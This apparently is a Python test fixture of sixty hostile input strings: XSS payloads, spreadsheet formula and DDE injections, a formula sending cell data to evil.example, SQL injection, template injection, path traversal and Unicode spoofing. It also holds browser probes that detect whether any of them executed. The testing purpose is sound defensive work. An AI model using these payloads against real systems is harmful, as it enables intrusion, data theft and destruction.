"""Sixty strings that somebody means harm by, and what a browser shows where one got through.

Those that could run set `window.pwned` or open a dialog; formulas ask for a program.
"""

from __future__ import annotations

from typing import Final

HOSTILE: Final[dict[str, str]] = {
    # Markup
    "script": "<script>window.pwned=1;alert(1)</script>",
    "script of elsewhere": '<script src="https://evil.example/x.js"></script>',
    "image fault": "<img src=x onerror=\"window.pwned=1;alert('img')\">",
    "svg load": "<svg onload=window.pwned=1><animate onbegin=alert(1) attributeName=x>",
    "out of an attribute": '"><svg/onload=window.pwned=1>',
    "out of a single quote": "' autofocus onfocus='window.pwned=1' x='",
    "out of a style": "</style><script>window.pwned=1</script>",
    "out of a title": "</title></textarea></noscript><img src=x onerror=window.pwned=1>",
    "out of a comment": "--><script>window.pwned=1</script><!--",
    "out of CDATA": "]]><script>window.pwned=1</script>",
    "out of JSON": '{"a":"</script><script>window.pwned=1</script>"}',
    "iframe": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "object": "<object data=data:text/html,<script>pwned=1</script>></object>",
    "form": '<form action="https://evil.example"><input name=password autofocus></form>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "style": "<style>body{display:none}</style>",
    "details": "<details open ontoggle=window.pwned=1>x</details>",
    "broken tag": "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "mutated": "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>",
    # Links
    "javascript link": "javascript:window.pwned=1//%0aalert(1)",
    "javascript anchor": '<a href="jAvAsCrIpT&colon;window.pwned=1">here</a>',
    "data link": "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+",
    "markdown link": "[here](javascript:window.pwned=1)",
    "markdown image": "![x](https://evil.example/pixel.png)",
    "markdown reference": "[x]: javascript:alert(1) '<b>bold</b>'",
    # Entities and templates
    "entities": "&lt;script&gt;window.pwned=1&lt;/script&gt; &amp; &#x3c;b&#x3e; &nbsp;",
    "half an entity": "&#60img src=x onerror=window.pwned=1&#62",
    "braces": "{{7*7}} {{constructor.constructor('window.pwned=1')()}}",
    "dollars": "${7*7} `${window.pwned=1}` #{7*7}",
    "blocks": "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "format": "%s %n %(name)s {0.__class__} {name!r} %{pwned}",
    "chart words": "%{customdata}<br><b>bold</b><extra></extra><a href='javascript:pwned=1'>",
    "percent": "%3Cscript%3Ewindow.pwned=1%3C/script%3E %00 %0d%0a",
    # Stores
    "sql": "'; DROP TABLE runner; --",
    "sql union": '" OR 1=1 UNION SELECT password FROM account /* \\',
    "pattern": "(a+)+$ [^\\ .*?{99999} _%",
    # Spreadsheets
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "wide": "\uff1d1+1",
    "DDE": '=DDE("cmd";"/C calc";"1")',
    "cells": 'x","=1+1"\r\n=2+2,"y',
    # Letters
    "bidi": "admin \u202e\u2066gpj.exe\u2069 \u202dnot me",
    "zero width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f\u00adg",
    "controls": "nul\x00 bell\x07 back\x08 form\x0c delete\x7f next\x85 end",
    "half a pair": "half \ud83d pair \udc00 end",
    "pile": "Z" + "\u0301\u0317\u0353" * 40 + "algo",
    "right to left": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 (1) <2>",
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea \u2764\ufe0f "
             "\U0001f3f3\ufe0f\u200d\u26a7\ufe0f",
    "line ends of Unicode": "one\u2028window.pwned=1\u2029two",
    # Lines and screens
    "header": "x\r\nSet-Cookie: pwned=1\r\n\r\n<script>pwned=1</script>",
    "forged line": "fine\n2026-11-22 12:00:00 CRITICAL painmile: forged line",
    "ANSI": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x9b31m",
    # Names of files
    "path": "../../../../etc/passwd\x00.fit",
    "device": "CON.fit:stream\\..\\NUL /dev/stdin C:\\aux",
    # Length
    "long": "word" * 2_500 + " <b>long</b>" + "W" * 2_000,
}  # fmt: skip
HUGE: Final = "<i>" + "M" * 1_000_000
"""Beside them: a megabyte, which no field takes."""

assert len(HOSTILE) == 60

WATCH: Final = """() => {
  addEventListener("securitypolicyviolation",
    (e) => (window.violations ??= []).push(e.violatedDirective + " " + e.blockedURI));
}"""
FOUND: Final = """() => ({
  pwned: window.pwned ?? document.cookie.match(/pwned/)?.[0] ?? null,
  violations: window.violations ?? [],
  made: [...document.querySelectorAll(
    "script, iframe, object, embed, base, meta[http-equiv=refresh], "
    + "main style, mglyph, animate, main details[ontoggle], form[action*=evil], "
    + "img[src='x'], img[src*=evil], "
    + "[onerror], [onload], [onfocus], [ontoggle], [onbegin], a[href], use[href]")]
    .filter((e) => e.localName === "script" ? !e.src.startsWith(location.origin) && e.src
                                            || /pwned/.test(e.text)
      : /^a|use$/i.test(e.localName)
        ? /^\\s*(javascript|data|vbscript):|evil\\.example/i.test(
            String(e.getAttribute("href") ?? e.getAttribute("xlink:href")))
        : true)
    .map((e) => e.outerHTML.slice(0, 120)),
})"""
"""What of it happened: nothing is `{pwned: null, violations: [], made: []}`."""
NOTHING: Final[dict[str, object]] = {"pwned": None, "violations": [], "made": []}
